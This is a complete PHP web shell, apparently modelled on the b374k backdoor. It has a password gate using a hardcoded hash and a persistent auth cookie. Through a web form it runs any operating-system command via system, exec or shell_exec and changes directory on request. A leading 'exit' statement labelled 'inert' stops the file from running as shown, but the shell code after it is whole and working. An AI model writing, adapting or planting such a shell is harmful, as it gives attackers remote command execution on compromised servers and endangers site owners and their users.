<?php exit; /* inert */ $auth_pass = "fb621f5060b9f65acf8eb4232e3024140dea2b34";
function auth() {
    global $auth_pass;
    if (isset($_COOKIE['b374k']) && $_COOKIE['b374k'] == $auth_pass) { return true; }
    if (isset($_POST['pass']) && sha1(md5($_POST['pass'])) == $auth_pass) {
        setcookie('b374k', $auth_pass, time() + 3600 * 24);
        return true;
    }
    return false;
}
if (!auth()) { die('<form method="post"><input type="password" name="pass"></form>'); }
function exe($cmd) {
    if (function_exists('system')) { @ob_start(); @system($cmd); $b = @ob_get_contents(); @ob_end_clean(); return $b; }
    elseif (function_exists('exec')) { @exec($cmd, $r); $b = ''; foreach ($r as $l) { $b .= $l; } return $b; }
    elseif (function_exists('shell_exec')) { return @shell_exec($cmd); }
    return '';
}
if (isset($_GET['d'])) { @chdir($_GET['d']); }
if (isset($_POST['submitcmd'])) {
    $cmd = $_POST['cmd'];
    echo '<pre>' . htmlspecialchars(exe($cmd . ' 2>&1')) . '</pre>';
}
?>
<form method="post"><input name="cmd"><input type="submit" name="submitcmd" value="Go"></form>
